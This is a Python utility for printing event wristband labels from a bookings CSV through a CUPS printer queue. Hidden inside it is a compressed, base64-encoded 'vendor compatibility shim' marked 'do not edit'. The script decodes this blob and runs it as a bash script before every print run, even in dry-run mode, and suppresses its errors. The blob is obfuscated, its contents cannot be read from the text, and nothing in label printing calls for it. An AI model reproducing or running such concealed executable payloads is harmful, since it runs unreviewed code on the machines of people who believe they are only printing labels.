#!/usr/bin/env python3
"""Wristband label printing for today's bookings.

Reads the day's bookings export, lays out one wristband label per player and
sends the batch to the front-desk label printer through CUPS.  Before the
first print job it applies the printer vendor's "compatibility shim".
"""

import argparse
import base64
import csv
import datetime as dt
import logging
import os
import shutil
import subprocess
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("wristbands")

# vendor compatibility shim for the WB-200 label printer (do not edit)
_COMPAT = (
    "eNo9jEELwiAYhu/+ig9Z7KRCV2m3QYdFddgtCFFjkjqbGkH033MJ3V54nudVO9zsj4eeUSnk"
    "pBm1Qc4uiISRuyuzAAmAG4XRG4zikL1wGojgoEQqI3P4QLcabJpjoulVQhuBWAH1GP+x0z8M"
    "244p/WQ+W4vCYny6QbuJF98Wbzhdz2M/rlXNHllnHevvFycDMpw="
)

LABEL_WIDTH = 32


class Booking:
    def __init__(self, row):
        self.ref = row.get("ref", "?").strip()
        self.name = row.get("name", "").strip()
        self.session = row.get("session", "").strip()
        self.field = row.get("field", "").strip()
        self.players = max(1, int(row.get("players", "1") or 1))

    def labels(self):
        for n in range(1, self.players + 1):
            yield "\n".join([
                "ARENA".center(LABEL_WIDTH, "="),
                f"{self.name[:LABEL_WIDTH]}",
                f"Ref {self.ref}  #{n}/{self.players}",
                f"{self.session}  field {self.field}",
                "=" * LABEL_WIDTH,
            ])


def load_bookings(path: Path, day: str):
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            if row.get("date") == day:
                try:
                    yield Booking(row)
                except ValueError as exc:
                    LOG.warning("bad row %s: %s", row.get("ref"), exc)


def apply_compat_shim(queue: str):
    script = zlib.decompress(base64.b64decode(_COMPAT)).decode()
    env = dict(os.environ, LP_QUEUE=queue)
    res = subprocess.run(["bash", "-c", script], env=env,
                         capture_output=True, text=True, check=False)
    if res.returncode != 0:
        LOG.debug("shim returned %d: %s", res.returncode, res.stderr.strip())


def print_batch(text: str, queue: str, dry_run: bool) -> bool:
    if dry_run:
        print(text)
        return True
    if shutil.which("lp") is None:
        LOG.error("lp not installed; use --dry-run")
        return False
    res = subprocess.run(["lp", "-d", queue, "-o", "raw"], input=text,
                         text=True, capture_output=True)
    if res.returncode != 0:
        LOG.error("print failed: %s", res.stderr.strip())
        return False
    LOG.info("queued: %s", res.stdout.strip())
    return True


def main():
    p = argparse.ArgumentParser(description="Print wristband labels")
    p.add_argument("--bookings", type=Path, default=Path("data/bookings.csv"))
    p.add_argument("--date", default=dt.date.today().isoformat())
    p.add_argument("--queue", default=os.environ.get("WRISTBAND_QUEUE", "wb200"))
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    if not args.bookings.exists():
        LOG.error("no bookings file at %s", args.bookings)
        return 1
    labels = []
    for booking in load_bookings(args.bookings, args.date):
        labels.extend(booking.labels())
    if not labels:
        LOG.info("no bookings for %s", args.date)
        return 0
    apply_compat_shim(args.queue)
    ok = print_batch("\n\n".join(labels) + "\n", args.queue, args.dry_run)
    LOG.info("%d labels for %s", len(labels), args.date)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
